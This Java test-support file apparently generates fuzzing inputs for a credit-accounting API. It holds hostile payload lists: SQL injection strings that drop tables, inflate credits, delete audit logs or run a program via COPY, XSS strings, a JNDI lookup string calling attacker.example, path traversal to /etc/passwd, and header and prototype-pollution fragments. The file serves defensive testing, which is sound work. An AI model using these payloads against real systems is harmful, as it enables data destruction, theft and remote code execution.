package dev.tollgate.security;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

import com.fasterxml.jackson.core.io.JsonStringEncoder;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/**
 * jqwik generators of hostile request parts: JSON fragments of the wrong type, huge and negative
 * numbers, deep nesting, long and odd strings (control characters, lone surrogates, non-ASCII),
 * SQL and script payloads; whole bodies that are random JSON, random bytes, truncated, or
 * templates with invalid UTF-8 spliced in. Each generator has "certainly invalid" variants for
 * the fields where a merely odd value would be a valid request.
 *
 * <p>Values are drawn with {@link Arbitrary#generatorWithEmbeddedEdgeCases} from a seeded
 * {@link Random}, so a run is reproducible from its seed (jqwik's engine cannot run inside a
 * {@code @QuarkusTest}; these are its generators, without its runner or shrinking).
 */
final class FuzzInputs {

    static final List<String> SQL = List.of("' OR '1'='1", "'; DROP TABLE credit_account; --",
            "1; UPDATE credit_account SET purchased_millicredits = 1e12; --", "\" OR \"\"=\"",
            "admin'--", "' UNION SELECT user_id, plan FROM credit_account --", "$$; DELETE FROM credit_audit_log; $$",
            "%' AND pg_sleep(5) --", "\\'; COPY credit_account TO PROGRAM 'id'; --");
    static final List<String> SCRIPT = List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
            "javascript:alert(document.cookie)", "{{7*7}}", "${jndi:ldap://attacker.example/a}", "#{7*7}",
            "../../../../etc/passwd", "%00", "\r\nSet-Cookie: a=b", "<!--#exec cmd=\"id\"-->");

    private static final int GEN_SIZE = 1_000;
    private static final JsonStringEncoder ENCODER = JsonStringEncoder.getInstance();

    private final Random random;

    FuzzInputs(long seed) {
        this.random = new Random(seed);
    }

    <T> T draw(Arbitrary<T> arbitrary) {
        return arbitrary.generatorWithEmbeddedEdgeCases(GEN_SIZE).next(random).value();
    }

    int nextInt(int bound) {
        return random.nextInt(bound);
    }

    /** A JSON string literal of the text; surrogates (lone ones too) as {@code \\uXXXX} escapes. */
    static String quote(String text) {
        String quoted = new String(ENCODER.quoteAsString(text));
        StringBuilder out = new StringBuilder(quoted.length() + 2).append('"');
        for (int i = 0; i < quoted.length(); i++) {
            char c = quoted.charAt(i);
            if (Character.isSurrogate(c)) {
                out.append(String.format("\\u%04X", (int) c));
            } else {
                out.append(c);
            }
        }
        return out.append('"').toString();
    }

    // ---- strings -------------------------------------------------------------------------

    /** Any text: every code point, lone surrogates, control characters; short or up to 200,000 characters. */
    static Arbitrary<String> anyText() {
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(6, Arbitraries.strings().all().ofMaxLength(300)),
                net.jqwik.api.Tuple.of(2, Arbitraries.strings().withChars('\u0000', '\u001f', '\u007f', '\ud800', '\udfff',
                        '\u202e', '\ufeff', '\uffff').ofMinLength(1).ofMaxLength(20)),
                net.jqwik.api.Tuple.of(2, Arbitraries.of(SQL)),
                net.jqwik.api.Tuple.of(2, Arbitraries.of(SCRIPT)),
                net.jqwik.api.Tuple.of(1, Arbitraries.integers().between(1_000, 200_000).map(n -> "A".repeat(n))));
    }

    /** Short text of ordinary letters mixed with NUL, control characters, lone surrogates, bidi and BOM marks. */
    static Arbitrary<String> oddText() {
        return Arbitraries.strings().withChars("abcXYZ019 -_.:/'\"\\<>%;").withChars('\u0000', '\u0001', '\u001f', '\u007f',
                '\ud800', '\udc00', '\u202e', '\ufeff', '\n', '\t', 'é', '漢').ofMinLength(1).ofMaxLength(24);
    }

    /** Text that is never a token subject: empty, too long, or with a character outside printable ASCII. */
    static Arbitrary<String> invalidUserIdText() {
        return Arbitraries.oneOf(
                Arbitraries.just(""),
                Arbitraries.integers().between(256, 5_000).map(n -> "u".repeat(n)),
                Arbitraries.strings().all().ofMaxLength(40).flatMap(s -> Arbitraries.of('\u0000', '\n', '\u007f', 'é', '\ud800', '漢')
                        .map(c -> s + c + s)),
                Arbitraries.of(SQL).map(s -> " " + s));
    }

    /** Text that is never an ISO instant: no digits at all. */
    static Arbitrary<String> textWithoutDigits() {
        return Arbitraries.oneOf(
                Arbitraries.strings().all().ofMaxLength(200).map(s -> s.replaceAll("[0-9\\p{Nd}]", "x")),
                Arbitraries.of(SCRIPT).map(s -> s.replaceAll("[0-9]", "x")),
                Arbitraries.of(SQL).map(s -> s.replaceAll("[0-9]", "x")));
    }

    // ---- JSON fragments ------------------------------------------------------------------

    /** A fragment of raw JSON text (sometimes not valid JSON at all) of any type. */
    static Arbitrary<String> anyFragment() {
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(4, anyText().map(FuzzInputs::quote)),
                // Plausible values, so that requests also get past the parser to the checks behind it.
                net.jqwik.api.Tuple.of(3, anyText().filter(text -> text.length() <= 128).map(FuzzInputs::quote)),
                net.jqwik.api.Tuple.of(3, oddText().map(FuzzInputs::quote)),
                net.jqwik.api.Tuple.of(2, Arbitraries.longs().between(0, 10_000_000).map(String::valueOf)),
                net.jqwik.api.Tuple.of(1, Arbitraries.of("gpt-4o", "o4-mini", "claude-sonnet-4", "no-such-model",
                        "down-test-model", "gpt-4o-mini:latest", "a").map(FuzzInputs::quote)),
                net.jqwik.api.Tuple.of(3, wrongNumber()),
                net.jqwik.api.Tuple.of(2, Arbitraries.of("true", "false", "null", "[]", "{}", "[null]", "{\"\":\"\"}",
                        "{\"$gt\":\"\"}", "{\"__proto__\":{\"admin\":true}}", "NaN", "Infinity", "undefined", "'single'",
                        "\"unterminated", "tru", "0x1F", "+1", ".5", "1.", "--1")),
                net.jqwik.api.Tuple.of(1, deepNesting()),
                net.jqwik.api.Tuple.of(1, Arbitraries.lazy(FuzzInputs::anyFragment).list().ofMaxSize(5)
                        .map(items -> "[" + String.join(",", items) + "]")));
    }

    /** Numbers that no field accepts in the money API's sense: huge, negative, fractional, out of any range. */
    static Arbitrary<String> wrongNumber() {
        return Arbitraries.oneOf(
                Arbitraries.longs().lessOrEqual(-1).map(String::valueOf),
                Arbitraries.longs().greaterOrEqual(10_000_001L).map(String::valueOf),
                Arbitraries.integers().between(20, 400).map(n -> "9".repeat(n)),
                Arbitraries.integers().between(20, 400).map(n -> "-" + "9".repeat(n)),
                Arbitraries.of("1e400", "-1e400", "1E+308", "4.9e-324", "1.5", "0.1", "-0.0", "1e30", "-9223372036854775809",
                        "9223372036854775808", "00012", "1_000"));
    }

    static Arbitrary<String> deepNesting() {
        return Arbitraries.integers().between(50, 20_000).flatMap(depth -> Arbitraries.of(
                "[".repeat(depth) + "]".repeat(depth),
                "{\"a\":".repeat(depth) + "1" + "}".repeat(depth),
                "[".repeat(depth)));
    }

    /** A fragment certainly wrong for a required token count: negative, too large, fractional, not a number, null. */
    static Arbitrary<String> invalidTokenCount() {
        return Arbitraries.oneOf(wrongNumber(),
                anyText().map(FuzzInputs::quote),
                Arbitraries.of("null", "true", "[]", "{}", "[1]", "\"10\""),
                deepNesting());
    }

    /** A fragment certainly not a user id. */
    static Arbitrary<String> invalidUserId() {
        return Arbitraries.oneOf(invalidUserIdText().map(FuzzInputs::quote),
                wrongNumber(), Arbitraries.of("null", "true", "[]", "{}", "[\"a\"]", "123"), deepNesting());
    }

    /** A fragment certainly not an amount of an adjustment: zero, beyond 10^12 either way, fractional, not a number. */
    static Arbitrary<String> invalidAmount() {
        return Arbitraries.oneOf(
                Arbitraries.of("0", "-0", "1000000000001", "-1000000000001", "1.5", "1e400", "null", "\"1000\"", "true", "[]", "{}"),
                Arbitraries.longs().greaterOrEqual(1_000_000_000_001L).map(String::valueOf),
                Arbitraries.longs().lessOrEqual(-1_000_000_000_001L).map(String::valueOf),
                anyText().map(FuzzInputs::quote));
    }

    /** A fragment certainly not a future instant (and not null, which would mean "soon"). */
    static Arbitrary<String> invalidEffectiveFrom() {
        return Arbitraries.oneOf(textWithoutDigits().map(FuzzInputs::quote),
                Arbitraries.of("\"2001-01-01T00:00:00Z\"", "\"1970-01-01T00:00:00Z\"", "\"2026-02-30T00:00:00Z\"",
                        "\"-999999999-01-01T00:00:00Z\"", "\"+999999999-12-31T23:59:59Z\"", "0", "-1", "1e400", "true",
                        "[]", "{}", "\"now\"", "\"\""),
                wrongNumber(), deepNesting());
    }

    // ---- whole bodies --------------------------------------------------------------------

    /** Bytes that are not UTF-8: lone continuation bytes, overlong forms, surrogates encoded, 0xFF. */
    static Arbitrary<byte[]> invalidUtf8() {
        return Arbitraries.oneOf(
                Arbitraries.of(new byte[] { (byte) 0xC0, (byte) 0x80 }, new byte[] { (byte) 0xFF },
                        new byte[] { (byte) 0xED, (byte) 0xA0, (byte) 0x80 }, new byte[] { (byte) 0xC3, (byte) 0x28 },
                        new byte[] { (byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80 }),
                Arbitraries.bytes().between((byte) 0x80, (byte) 0xBF).list().ofMinSize(1).ofMaxSize(8).map(list -> {
                    byte[] bytes = new byte[list.size()];
                    for (int i = 0; i < bytes.length; i++) {
                        bytes[i] = list.get(i);
                    }
                    return bytes;
                }));
    }

    /** A body that no endpoint accepts, whatever it is: random JSON, random bytes, a fragment, deep nesting. */
    byte[] garbageBody() {
        switch (nextInt(4)) {
            case 0:
                return draw(anyFragment()).getBytes(StandardCharsets.UTF_8);
            case 1:
                return draw(Arbitraries.bytes().array(byte[].class).ofMaxSize(2_000));
            case 2:
                return draw(deepNesting()).getBytes(StandardCharsets.UTF_8);
            default:
                return randomObject().getBytes(StandardCharsets.UTF_8);
        }
    }

    /** An object with random keys and random values. */
    String randomObject() {
        int size = nextInt(6);
        List<String> members = new ArrayList<>();
        for (int i = 0; i < size; i++) {
            members.add(quote(draw(anyText().filter(s -> s.length() < 100))) + ":" + draw(anyFragment()));
        }
        return "{" + String.join(",", members) + "}";
    }

    /** The template's bytes with invalid UTF-8 spliced into it at a random place. */
    byte[] withInvalidUtf8(String template) {
        byte[] text = template.getBytes(StandardCharsets.UTF_8);
        byte[] bad = draw(invalidUtf8());
        int at = nextInt(text.length + 1);
        byte[] result = new byte[text.length + bad.length];
        System.arraycopy(text, 0, result, 0, at);
        System.arraycopy(bad, 0, result, at, bad.length);
        System.arraycopy(text, at, result, at + bad.length, text.length - at);
        return result;
    }

    /** The template cut short, or with one of its keys repeated. */
    byte[] broken(String template) {
        if (nextInt(2) == 0) {
            return template.substring(0, nextInt(template.length())).getBytes(StandardCharsets.UTF_8);
        }
        int brace = template.indexOf('{');
        String firstMember = template.substring(brace + 1, template.indexOf(',') > 0 ? template.indexOf(',') : template.length() - 1);
        return (template.substring(0, brace + 1) + firstMember + "," + template.substring(brace + 1))
                .getBytes(StandardCharsets.UTF_8);
    }
}
